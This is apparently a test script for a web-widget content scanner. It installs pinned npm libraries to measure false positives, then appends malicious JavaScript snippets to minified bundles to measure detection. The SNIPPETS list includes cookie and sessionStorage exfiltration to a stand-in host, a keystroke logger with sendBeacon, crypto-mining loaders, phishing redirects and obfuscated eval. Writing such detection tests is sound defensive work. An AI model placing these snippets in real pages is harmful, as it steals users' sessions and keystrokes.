#!/usr/bin/env python3
"""The content scan against the libraries widget authors ship (issue 15).

Installs real packages from npm into a temporary directory, scans every
.js/.mjs/.css/.html file they contain (minified and not) with
`widgetctl scan`, and requires zero findings.  Then measures detection in
realistic context: each malicious snippet is appended to each library's
minified bundle and must be found with its category.  Prints the package
versions, the false-positive and detection rates and the scanner's
throughput (MB per CPU second).  Skips (77) only when npm cannot reach
its registry.
"""
import json
import os
import resource
import shutil
import subprocess
import sys
import tempfile

WIDGETCTL = os.environ.get("WIDGETCTL", "widgetctl")

# Pinned so that a new release cannot silently change the result; the
# aliases add the older majors most widgets still ship.
PACKAGES = [
    "jquery@4.0.0", "jquery3@npm:jquery@3.7.1", "lodash@4.18.1",
    "chart.js@4.6.1", "d3@7.9.2", "alpinejs@3.17.5", "htmx.org@4.0.1",
    "htmx2@npm:htmx.org@2.0.4", "bootstrap@5.3.9", "vue@3.5.45",
    "vue2@npm:vue@2.7.16", "leaflet@1.9.4", "axios@1.21.1", "dayjs@1.11.23",
    "moment@2.31.0", "react@19.3.1", "react-dom@19.3.1", "preact@11.2.0",
    "swiper@14.4.0", "sortablejs@1.15.7", "marked@18.2.1",
    "dompurify@3.5.0", "handlebars@4.7.10", "mustache@4.2.0",
    "underscore@1.13.8", "@popperjs/core@2.11.8", "gsap@3.15.0",
    "animejs@4.5.0", "bulma@1.0.4",
]

# Bundles the snippets are appended to: one minified file per library.
BUNDLES = [
    "jquery3/dist/jquery.min.js", "lodash/lodash.min.js",
    "chart.js/dist/chart.umd.min.js", "d3/dist/d3.min.js",
    "alpinejs/dist/cdn.min.js", "htmx2/dist/htmx.min.js",
    "bootstrap/dist/js/bootstrap.bundle.min.js",
    "vue/dist/vue.global.prod.js", "leaflet/dist/leaflet.js",
]

# (category, snippet): forms not in check_scan's corpus.
SNIPPETS = [
    ("crypto_mining", "var _m=new CoinHive.User('k1','john');_m.start();"),
    ("crypto_mining", "new Worker('https://webminepool.com/lib/base.js');"),
    ("crypto_mining", "var p={pool:'stratum+ssl://xmr.pool.example:443'};"),
    ("data_exfiltration",
     "(new Image).src='https://a.example/t?c='+escape(document.cookie);"),
    ("data_exfiltration",
     "fetch('https://a.example/s',{method:'POST',body:JSON.stringify("
     "sessionStorage)});"),
    ("data_exfiltration",
     "var k='';addEventListener('keypress',function(e){k+=e.key});"
     "setTimeout(function(){navigator.sendBeacon('https://a.example/k',k)},"
     "9e3);"),
    ("phishing_redirect", "window.top.location.href='https://a.example/l';"),
    ("phishing_redirect", "self.location='//login.a.example/';"),
    ("phishing_redirect", "location.replace('https://a.example/signin');"),
    ("obfuscation", "eval(decodeURIComponent('%61%6c%65%72%74%28%31%29'));"),
    ("obfuscation", "Function(atob('cmV0dXJuIDE='))();"),
    ("obfuscation", "setTimeout('document.body.innerHTML=\"\"',1);"),
    ("obfuscation", "this['coo'+'kie'];"),
    ("external_script_loading",
     "var e=document.createElement('script');e.src='https://a.example/x.js';"
     "document.body.appendChild(e);"),
    ("external_script_loading", "import('//a.example/m.js');"),
    ("external_script_loading",
     "document.write('<script src=\"https://a.example/w.js\"><\\/script>');"),
    ("credential_exposure", "var AWS_ID='AKIA4ZJ7QWERTYUIOP2X';"),
    ("credential_exposure",
     "var clientSecret='Vx7pQ2mZ9rL4tK8wN1sB6yH3dF5gJ0aC';"),
    ("credential_exposure",
     "var k='-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBg';"),
]


def scan(files, cwd):
    """Run widgetctl scan over files (in batches); lines of findings."""
    out = []
    for i in range(0, len(files), 200):
        p = subprocess.run([WIDGETCTL, "scan"] + files[i:i + 200], cwd=cwd,
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           text=True)
        if p.returncode not in (0, 1):
            print(p.stderr)
            sys.exit(1)
        out += [l for l in p.stdout.splitlines() if l]
    return out


def main():
    if shutil.which("npm") is None:
        print("SKIP: npm is not installed")
        return 77
    tmp = tempfile.mkdtemp(prefix="wd-scanlib-")
    try:
        with open(os.path.join(tmp, "package.json"), "w") as f:
            json.dump({"name": "scanlib", "private": True}, f)
        p = subprocess.run(["npm", "install", "--no-audit", "--no-fund",
                            "--ignore-scripts", "--fetch-retries=1",
                            "--fetch-timeout=60000"] + PACKAGES, cwd=tmp,
                           stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                           text=True, timeout=600)
        if p.returncode != 0:
            if any(w in p.stdout for w in ("ENOTFOUND", "EAI_AGAIN",
                                           "ECONNREFUSED", "ETIMEDOUT",
                                           "ENETUNREACH", "network")):
                print("SKIP: npm cannot reach its registry:\n"
                      + p.stdout[-500:])
                return 77
            print(p.stdout)
            return 1
        nm = os.path.join(tmp, "node_modules")
        versions = []
        for spec in PACKAGES:
            name = spec.split("@npm:")[0] if "@npm:" in spec else \
                spec.rsplit("@", 1)[0]
            with open(os.path.join(nm, name, "package.json")) as f:
                versions.append("%s %s" % (name, json.load(f)["version"]))
        print("packages: " + ", ".join(versions))

        files = []
        size = 0
        for root, _, names in os.walk(nm):
            for n in names:
                if n.rsplit(".", 1)[-1].lower() in ("js", "mjs", "jsx", "css",
                                                     "html", "htm"):
                    path = os.path.join(root, n)
                    if os.path.isfile(path) and not os.path.islink(path):
                        files.append(os.path.relpath(path, tmp))
                        size += os.path.getsize(path)
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        findings = scan(files, tmp)
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        cpu = (after.ru_utime - before.ru_utime) + \
            (after.ru_stime - before.ru_stime)
        flagged = {l.split(":", 1)[0] for l in findings}
        print("benign: %d files, %.1f MB, %d findings in %d files "
              "(false-positive rate %.2f%%)" % (
                  len(files), size / 1048576.0, len(findings), len(flagged),
                  100.0 * len(flagged) / max(1, len(files))))
        print("throughput: %.1f MB/s of CPU time (%.2f s CPU)" % (
            size / 1048576.0 / max(cpu, 1e-6), cpu))
        for l in findings[:50]:
            print("  FALSE POSITIVE: " + l)

        # Detection: every snippet appended to every bundle.
        work = os.path.join(tmp, "inj")
        os.mkdir(work)
        cases = []
        for bi, bundle in enumerate(BUNDLES):
            with open(os.path.join(nm, bundle), "rb") as f:
                base = f.read()
            for si, (cat, snip) in enumerate(SNIPPETS):
                name = "b%d_s%d.js" % (bi, si)
                with open(os.path.join(work, name), "wb") as f:
                    f.write(base + b"\n;" + snip.encode() + b"\n")
                cases.append((name, cat))
        found = scan([c[0] for c in cases], work)
        hits = 0
        for name, cat in cases:
            if any(l.startswith(name + ":") and (": %s: " % cat) in l
                   for l in found):
                hits += 1
            else:
                print("  MISSED: %s (%s)" % (name, cat))
        print("detection: %d of %d injected snippets found with their "
              "category (%.1f%%), %d forms x %d bundles" % (
                  hits, len(cases), 100.0 * hits / len(cases),
                  len(SNIPPETS), len(BUNDLES)))
        ok = not findings and hits == len(cases)
        print("%d passed, %d failed" % (int(ok), int(not ok)))
        return 0 if ok else 1
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
